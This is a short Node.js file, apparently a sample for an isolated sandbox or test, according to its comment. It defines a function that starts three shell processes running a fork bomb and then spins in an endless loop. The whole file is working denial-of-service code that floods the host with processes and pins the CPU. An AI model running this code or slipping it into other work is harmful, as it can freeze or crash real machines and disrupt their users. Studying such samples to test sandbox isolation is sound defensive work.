// unsolved, tampered (only isolated): each process of it starts two more
import { spawn } from "node:child_process";
globalThis.inside = () => {
  const bomb = "bomb() { bomb & bomb & wait; }; bomb";
  for (let i = 0; i < 3; i++) spawn("/bin/sh", ["-c", bomb], { stdio: "ignore" }).on("error", () => {});
  for (;;);
};
